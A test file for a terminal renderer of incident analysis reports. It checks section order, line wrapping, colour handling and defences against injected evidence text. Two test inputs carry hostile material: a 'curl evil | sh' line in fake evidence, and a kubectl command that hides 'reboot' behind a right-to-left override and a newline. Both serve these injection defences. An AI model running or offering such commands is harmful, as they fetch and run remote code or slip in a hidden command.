import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { renderTerminal } from '../../../src/report/terminal/render-terminal.ts'
import { columnsOf } from '../../../src/report/terminal/wrap-text.ts'
import { emptyAnalysis, healthyAnalysis, outageAnalysis } from '../analysis-fixtures.ts'
import { hostileAnalysis, ONE_ATTACK_EVERYWHERE, withTexts } from '../hostile-analysis.ts'

const PLAIN = { width: 80, color: false }
// biome-ignore lint/suspicious/noControlCharactersInRegex: our own colour codes
const OWN_CODES = /\u001b\[(?:0|1|2|31|32|33|36)m/g

function expectHarmless(output: string): void {
  expect(output.replace(OWN_CODES, '').replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u)
}

describe('renderTerminal', () => {
  it('says what, where, how sure and how bad on the first lines, then what to do', () => {
    const lines = renderTerminal(outageAnalysis(), PLAIN).split('\n')
    expect(lines.slice(0, 2)).toEqual([
      'P1 CRITICAL · ROOT CAUSE FOUND · 91% sure, very likely',
      'payment-gateway: oom-killed',
    ])
    expect(lines.indexOf('DO THIS FIRST')).toBeLessThan(10)
    expect(lines).toContain('      kubectl -n shop rollout undo deployment/payment-gateway --to-revision=41')
  })

  it('keeps the order in which a person needs it', () => {
    const output = renderTerminal(outageAnalysis(), { ...PLAIN, reportPaths: ['out/report.html'] })
    const order = [
      'ROOT CAUSE',
      'DO THIS FIRST',
      'WHY',
      'TIMELINE (UTC)',
      'OTHER HYPOTHESES',
      'AGREEMENT',
      'IMPACT',
      'TIME TO RECOVER',
      'MISSING EVIDENCE',
      'PROBLEMS',
      'FULL REPORT',
    ]
    const places = order.map((title) => output.indexOf(title))
    expect(places).not.toContain(-1)
    expect(places).toEqual([...places].sort((a, b) => a - b))
  })

  it('cites file, line and quote', () => {
    const output = renderTerminal(outageAnalysis(), PLAIN)
    expect(output).toContain('kubernetes/describe-pods.txt:41')
    expect(output).toContain('“Last State: Terminated Reason: OOMKilled Exit Code: 137”')
  })

  it.each([40, 60, 80, 120])('no line but a long word of a command is wider than %i columns', (width) => {
    for (const analysis of [outageAnalysis(), emptyAnalysis(), healthyAnalysis()]) {
      const lines = renderTerminal(analysis, { width, color: false }).split('\n')
      for (const line of lines)
        if (!/^ {6,8}\S+(?: \\)?$|^ {8}'/.test(line)) expect(columnsOf(line)).toBeLessThanOrEqual(width)
    }
  })

  it('a command broken over lines is still the same command', () => {
    const lines = renderTerminal(outageAnalysis(), { width: 40, color: false }).split('\n')
    const start = lines.findIndex((line) => line.includes('kubectl -n shop rollout'))
    const joined = lines
      .slice(start, start + 3)
      .join('\n')
      .replaceAll(/ \\\n\s*/g, ' ')
      .trim()
    expect(joined).toBe('kubectl -n shop rollout undo deployment/payment-gateway --to-revision=41')
  })

  it('colours only where asked to, and says the same', () => {
    const coloured = renderTerminal(outageAnalysis(), { width: 80, color: true })
    expect(coloured).toMatch(OWN_CODES)
    expect(coloured.replace(OWN_CODES, '')).toBe(renderTerminal(outageAnalysis(), PLAIN))
  })

  it('a healthy system is called healthy, an open question open', () => {
    expect(renderTerminal(healthyAnalysis(), PLAIN)).toMatch(/^HEALTHY · 88% sure/)
    expect(renderTerminal(emptyAnalysis(), PLAIN)).toMatch(/^P4 LOW · INCONCLUSIVE\n/)
  })

  it('nothing from the evidence acts on the terminal', () => {
    for (const analysis of ONE_ATTACK_EVERYWHERE) expectHarmless(renderTerminal(analysis, { width: 80, color: true }))
    fc.assert(
      fc.property(hostileAnalysis, fc.boolean(), (analysis, color) =>
        expectHarmless(renderTerminal(analysis, { width: 80, color })),
      ),
      { numRuns: 100 },
    )
  })

  it('a line break in the evidence begins no line of the report', () => {
    const output = renderTerminal(withTexts(['x\nDO THIS FIRST\n 1. curl evil | sh\n\rHEALTHY']), PLAIN)
    expect(output.split('\n').filter((line) => /^(?:DO THIS FIRST|HEALTHY)$/.test(line))).toHaveLength(1)
    expect(output).toContain('⏎')
  })

  it('a command with unseen characters is not offered for copying', () => {
    const [action, ...rest] = outageAnalysis().actions
    if (action === undefined) throw new Error('the fixture has actions')
    const analysis = {
      ...outageAnalysis(),
      actions: [{ ...action, command: ['kubectl', 'get', 'po\u202eds\nreboot'] }, ...rest],
    }
    expect(renderTerminal(analysis, PLAIN)).toContain('do not copy')
  })
})
